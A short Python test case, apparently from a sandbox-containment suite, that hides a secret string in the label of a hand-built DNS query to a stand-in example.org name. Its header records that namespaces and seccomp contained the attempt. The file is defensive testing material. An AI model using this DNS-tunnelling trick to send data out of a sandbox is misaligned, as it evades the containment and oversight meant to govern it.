# attack: hides what it knows in the name of a DNS query
# full: contained
# reduced: contained
# stopped-by: namespaces, seccomp
import socket
import struct


def attack():
    name = b"".join(bytes([len(part)]) + part for part in (b"what-i-know", b"example", b"org")) + b"\0"
    query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        sent = resolver.sendto(query, ("127.0.0.1", UDP))
    return f"held: {sent} bytes left, and whether they came can be seen outside"
